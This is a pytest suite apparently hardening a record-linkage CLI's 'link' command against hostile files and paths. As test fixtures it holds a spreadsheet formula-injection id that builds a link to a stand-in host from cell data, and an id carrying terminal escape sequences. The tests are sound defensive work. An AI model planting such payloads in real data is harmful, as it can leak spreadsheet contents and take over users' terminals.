"""``link`` against files and paths a hostile review tried: a repeated header, an output that
is a link or a pipe, a full disk, repeated or blank ids, a registry id that is a formula, a
file with no readable row."""

from __future__ import annotations

import csv
import errno
import io
import os
import signal
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from skiptrace.cli import app, link_cmd
from skiptrace.tables.paths import Partial
from skiptrace.tables.writer import Writer
from skiptrace.testing.children import quiet_fork

EXAMPLES = Path(__file__).resolve().parents[2] / "examples"
DEBTORS, REGISTRY = str(EXAMPLES / "debtors.csv"), str(EXAMPLES / "registry.csv")


def _link(*args: str) -> tuple[int, str, str]:
    result = CliRunner().invoke(app, ["link", *args])
    return result.exit_code, result.stdout, result.stderr


def _files(folder: Path, left: str, right: str) -> tuple[Path, Path]:
    """left.csv and right.csv in ``folder``, holding ``left`` and ``right``."""
    paths = folder / "left.csv", folder / "right.csv"
    for path, text in zip(paths, (left, right), strict=True):
        path.write_text(text, encoding="utf-8")
    return paths


def _pairs(stdout: str) -> list[tuple[str, str]]:
    return [(r["left_id"], r["right_id"]) for r in csv.DictReader(io.StringIO(stdout))]


def test_a_repeated_header_is_read_from_its_first_column(tmp_path: Path) -> None:
    """Two columns named ``name`` (the debtor, then a co-signer): the columns line said
    full_name=name, and the co-signer's values were compared: Jane Roe linked, high, to John
    Smith. The first column is read, as enrich reads it."""
    left, right = _files(tmp_path,
                         "id,name,address,zip,name\nA1,Jane Roe,9 Elm St,62701,John Smith\n",
                         "id,name,address,zip\nR1,Jane Roe,9 Elm St,62701\n"
                         "R2,John Smith,9 Elm St,62701\n")  # fmt: skip
    code, out, _ = _link(str(left), str(right))
    assert code == 0 and _pairs(out) == [("A1", "R1")], out


@pytest.mark.parametrize("kind", ["symbolic link", "FIFO"])
def test_an_output_that_is_not_a_regular_file_is_refused_and_kept(
    tmp_path: Path, kind: str
) -> None:
    """The output is written beside it and renamed over it: a symbolic link was replaced by a
    file (its target left stale), and a device node (``-o /dev/null`` as root) by a file of
    links."""
    output = tmp_path / "out.csv"
    if kind == "FIFO":
        os.mkfifo(output)
    else:
        (tmp_path / "target.csv").write_text("kept\n")
        output.symlink_to(tmp_path / "target.csv")
    code, _, err = _link(DEBTORS, REGISTRY, "-o", str(output))
    assert code == 2 and kind in err, err
    assert output.is_symlink() if kind != "FIFO" else output.is_fifo()
    assert sorted(p.name for p in tmp_path.iterdir() if "partial" in p.name) == []


def test_a_failed_write_leaves_no_partial_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """On a full disk the close of the partial file failed again, and the partial file, named
    at random, stayed for good: one more each run, on a disk already full."""

    class Full(io.StringIO):
        def flush(self) -> None:
            raise OSError(errno.ENOSPC, "No space left on device")

        close = flush

    real = Partial.__init__

    def made(self: Partial, target: Path) -> None:
        real(self, target)
        self.handle.close()
        self.handle = Full()
        self._writer = Writer(self.handle)

    monkeypatch.setattr(Partial, "__init__", made)
    code, _, err = _link(DEBTORS, REGISTRY, "-o", str(tmp_path / "out.csv"))
    assert code == 2 and "No space left on device" in err, err
    assert list(tmp_path.iterdir()) == []


def _killed_link(*args: str) -> int:
    """How a link run ended that was SIGKILLed just after its first links were written: a
    process of its own, a fork of this one (a fresh Python and its imports had been 1 s of CPU
    each)."""

    def killed_after_its_first_links() -> None:  # pragma: no cover - the child
        real = link_cmd._Output.write

        def write(self: link_cmd._Output, links: Any) -> None:
            real(self, links)
            os.kill(os.getpid(), signal.SIGKILL)

        link_cmd._Output.write = write  # type: ignore[method-assign]
        _link(*args)

    child = quiet_fork(killed_after_its_first_links)
    return os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])


def test_a_killed_run_leaves_one_partial_file_which_the_next_run_replaces(tmp_path: Path) -> None:
    """Each run's partial file had a name of its own: every run killed (SIGKILL, the OOM
    killer) left one more hidden file of links beside the output, for good."""
    output = tmp_path / "out.csv"
    for _ in range(2):  # the second run finds the first's file: one more kill finds the same
        assert _killed_link(DEBTORS, REGISTRY, "-o", str(output)) == -signal.SIGKILL
        assert [p.name for p in tmp_path.iterdir()] == [".out.csv.partial"]
    code, _, err = _link(DEBTORS, REGISTRY, "-o", str(output))
    assert code == 0, err
    assert [p.name for p in tmp_path.iterdir()] == ["out.csv"]
    assert output.read_text(encoding="utf-8").startswith("left_id,right_id,")


def test_the_links_are_on_disk_before_the_output_is_renamed_over(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The partial file was renamed over the output with its links still in the page cache: a
    power cut or a kernel crash soon after could leave the output empty or cut short, under
    its finished name (enrich's output is synced first)."""
    done: list[tuple[str, int | str]] = []
    sync, replace = os.fsync, os.replace

    def synced(descriptor: int) -> None:
        done.append(("fsync", os.fstat(descriptor).st_size))
        sync(descriptor)

    def replaced(source: Any, target: Any) -> None:
        done.append(("replace", Path(target).name))
        replace(source, target)

    monkeypatch.setattr(os, "fsync", synced)
    monkeypatch.setattr(os, "replace", replaced)
    output = tmp_path / "out.csv"
    code, _, err = _link(DEBTORS, REGISTRY, "-o", str(output))
    assert code == 0, err
    assert done == [("fsync", output.stat().st_size), ("replace", "out.csv")]


def test_repeated_and_blank_ids_are_said(tmp_path: Path) -> None:
    left, right = _files(tmp_path,
                         "id,name,zip\nA1,Jane Roe,62701\nA1,John Smith,62701\n"
                         ",Bob Quinlan,62701\n",
                         "id,name,zip\nR1,Jane Roe,62701\nR2,John Smith,62701\n"
                         "R3,Bob Quinlan,62701\n")  # fmt: skip
    code, out, err = _link(str(left), str(right))
    assert code == 0 and {("", "R3"), ("A1", "R1")} <= set(_pairs(out)), out
    assert f"{left}: 2 records share an id with another, 1 has none: their links" in err, err
    code, _, err = _link(DEBTORS, REGISTRY)  # ids each its own: nothing to say
    assert code == 0 and "share an id" not in err and "none:" not in err, err


@pytest.mark.parametrize(
    ("blanks", "said"), [(2, "2 records have no id"), (1, "1 record has no id")]
)
def test_blank_ids_alone_are_said_as_records_without_one(
    tmp_path: Path, blanks: int, said: str
) -> None:
    """With no id shared, the line said only "2 have none": of what, it did not say."""
    rows = "".join(f",{name},62701\n" for name in ("Jane Roe", "John Smith")[:blanks])
    left, right = _files(tmp_path, f"id,name,zip\n{rows}A3,Bob Quinlan,62701\n",
                         "id,name,zip\nR1,Jane Roe,62701\n")  # fmt: skip
    code, _, err = _link(str(left), str(right))
    assert code == 0 and f"{left}: {said}: their links name the id as written" in err, err


def test_ids_that_are_one_once_neutralised_are_said_to_be_shared(tmp_path: Path) -> None:
    right = tmp_path / "right.csv"
    right.write_text("ref,name,zip\n-42,Jane Roe,62701\n'-42,John Smith,62701\n")
    code, _, err = _link(DEBTORS, str(right))
    assert code == 0 and f"{right}: 2 records share an id with another" in err, err


def test_a_registry_id_is_written_neutralised(tmp_path: Path) -> None:
    """A bulk registry is a third party's text: its ids are written as the found_ columns
    are, a formula made inert."""
    left, right = _files(
        tmp_path,
        "id,name,zip\nA1,Jane Roe,62701\n",
        'ref,name,zip\n"=HYPERLINK(""http://x.example/?""&A2)",Jane Roe,62701\n',
    )
    code, out, _ = _link(str(left), str(right))
    assert code == 0 and _pairs(out) == [("A1", '\'=HYPERLINK("http://x.example/?"&A2)')]


def test_a_file_with_no_readable_row_is_bad_input_and_the_output_is_kept(
    tmp_path: Path,
) -> None:
    left = tmp_path / "left.csv"
    left.write_text('id,name,zip\nA1,"Jane Roe,62701\n')  # a quote never closed
    output = tmp_path / "out.csv"
    output.write_text("earlier links\n")
    code, _, err = _link(str(left), REGISTRY, "-o", str(output))
    assert code == 2 and f"{left}: no record could be read" in err, err
    assert output.read_text() == "earlier links\n"


def test_stdout_that_cannot_be_written_is_named(tmp_path: Path) -> None:
    command = [sys.executable, "-m", "skiptrace", "link", DEBTORS, REGISTRY]
    env = {**os.environ, "SKIPTRACE_HOME": str(tmp_path / "home")}
    with open("/dev/full", "w") as full:
        done = subprocess.run(command, stdout=full, stderr=subprocess.PIPE, text=True,
                              timeout=120, env=env)  # fmt: skip
    assert done.returncode == 2
    assert "cannot write stdout: No space left on device" in done.stderr, done.stderr


def test_a_closed_stdout_is_named_before_the_work(tmp_path: Path) -> None:
    """Run with stdout closed (``>&-``), Python has none: the files were linked, then the first
    links met no stdout, a traceback, exit 1, the work lost."""
    command = [sys.executable, "-m", "skiptrace", "link", DEBTORS, REGISTRY]
    env = {**os.environ, "SKIPTRACE_HOME": str(tmp_path / "home")}
    done = subprocess.run(command, stderr=subprocess.PIPE, text=True, timeout=120, env=env,
                          preexec_fn=lambda: os.close(1))  # fmt: skip
    assert done.returncode == 2 and "Traceback" not in done.stderr, done.stderr
    assert done.stderr == "skiptrace link: cannot write stdout: it is closed\n"


def test_dash_as_the_output_is_stdout(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """``-o -`` had made a file named '-'; it is stdout, link's default, as elsewhere."""
    monkeypatch.chdir(tmp_path)
    code, out, _ = _link(DEBTORS, REGISTRY, "-o", "-")
    assert code == 0 and out == _link(DEBTORS, REGISTRY)[1] and _pairs(out)
    assert list(tmp_path.iterdir()) == []


def test_records_no_kept_block_reaches_are_counted(tmp_path: Path) -> None:
    """40 copies of one debtor against 40 of one registry record: each rule's block of them
    is over its cap, so none was compared, and stderr said the other rules still reached
    them. They are counted, not just left unlinked."""
    row = "Jane,Roe,9 Elm St,Springfield,IL,62701\n"
    header = "id,first_name,last_name,address,city,state,zip\n"
    left, right = _files(tmp_path,
                         header + "".join(f"A{n},{row}" for n in range(40)) +
                         "A40,Bob,Quinlan,55 Harbor Way,Boston,MA,02110\n",
                         header + "".join(f"R{n},{row}" for n in range(40)) +
                         "R40,Bob,Quinlan,55 Harbor Way,Boston,MA,02110\n")  # fmt: skip
    code, out, err = _link(str(left), str(right), "--workers", "0")
    assert code == 0 and _pairs(out) == [("A40", "R40")], out
    assert f"{left}: 40 records compared with none, each block they are in left out" in err, err
    assert "still reach" not in err, err


def test_a_run_stopped_after_links_went_to_stdout_says_they_are_incomplete(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Ctrl-C while scoring, no -o: the links of the chunks scored were on stdout (a shell's
    redirect keeps them as a CSV like any other), and stderr said only 'stopped'."""
    from skiptrace.matching import Link

    def stopped_while_scoring(*args: Any) -> None:
        for side in args[2]:  # read, as the engine reads them: their ids
            list(side.batches())
        args[6]([Link(0, 0, 0.9, "medium", "name=")])  # the sink: one chunk written
        raise KeyboardInterrupt

    monkeypatch.setattr(link_cmd, "_run", stopped_while_scoring)
    code, out, err = _link(DEBTORS, REGISTRY)
    assert code == 130 and _pairs(out) == [("A1", "R9")], out
    assert "stopped; the links on stdout are incomplete" in err, err


@pytest.mark.parametrize(("side", "workers"), [(0, "0"), (1, "0"), (1, "1")])
def test_a_file_rewritten_in_place_while_it_is_read_is_an_error(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, side: int, workers: str
) -> None:
    """A nightly export written over the file in place while link read it: the reader met
    the end of the new, shorter file where it stood and the run went on, exit 0, with the
    records read so far (105 of 5,000 left records, the rest never linked and named nowhere).
    The file rewritten holds 5,000 records, more than the reader holds at once; the other, read
    whole and prepared before the right one is read on, 40 (5,000 took 2.5 s of CPU)."""
    monkeypatch.setattr(link_cmd, "ASIDE_FROM_BYTES", 0)  # with a worker, it reads the right file
    header = "id,name,address,zip\n"
    rows = ["".join(f"{p}{n},Person{n} Surname{n},{n} Oak St,{10000 + n}\n"
                    for n in range(5000 if k == side else 40))
            for k, p in enumerate("LR")]  # fmt: skip
    paths = _files(tmp_path, header + rows[0], header + rows[1])
    cells = link_cmd._Side._cells

    def rewritten_after_one_row(self: link_cmd._Side) -> Any:
        for k, row in enumerate(cells(self)):
            if k == 0 and self.path == paths[side]:
                with paths[side].open("r+", encoding="utf-8") as handle:
                    handle.truncate(0)
                    handle.write(header + rows[side][:1000])
            yield row

    monkeypatch.setattr(link_cmd._Side, "_cells", rewritten_after_one_row)
    output = tmp_path / "out.csv"
    code, _, err = _link(*map(str, paths), "-o", str(output), "--workers", workers)
    assert code == 2 and f"{paths[side]} changed while it was being read" in err, err
    assert not output.exists()


def test_links_shown_on_a_terminal_hold_no_control(tmp_path: Path) -> None:
    """Without -o on a terminal (as the examples run it), a registry's id holding escape
    sequences cleared the screen, retitled the window and planted a C1 CSI: every message is
    shown with its controls replaced, the links were written raw. A pipe still gets them as
    they are (``test_a_registry_id_is_written_neutralised``)."""
    import pty

    planted = "R1\x1b[2J\x1b]0;owned\x07\x9b31m"
    left, right = _files(tmp_path, "id,name,address,zip\nA1,Jane Roe,9 Elm St,62701\n",
                         f'id,name,address,zip\n"{planted}",Jane Roe,9 Elm St,62701\n')  # fmt: skip
    screen, terminal = pty.openpty()
    try:
        child = subprocess.Popen([sys.executable, "-m", "skiptrace", "link", str(left),
                                  str(right)], stdout=terminal, stderr=subprocess.DEVNULL,
                                 env=os.environ)  # fmt: skip
        os.close(terminal)
        shown = b""
        while True:
            try:
                part = os.read(screen, 4096)
            except OSError:  # the child's end closed (Linux)
                break
            if not part:
                break
            shown += part
        assert child.wait(timeout=60) == 0
    finally:
        os.close(screen)
    text = shown.decode("utf-8").replace("\r\n", "\n")
    assert "\x1b" not in text and "\x07" not in text and "\x9b" not in text, text
    assert "A1,R1\ufffd[2J\ufffd]0;owned\ufffd\ufffd31m,1.0000,high," in text, text
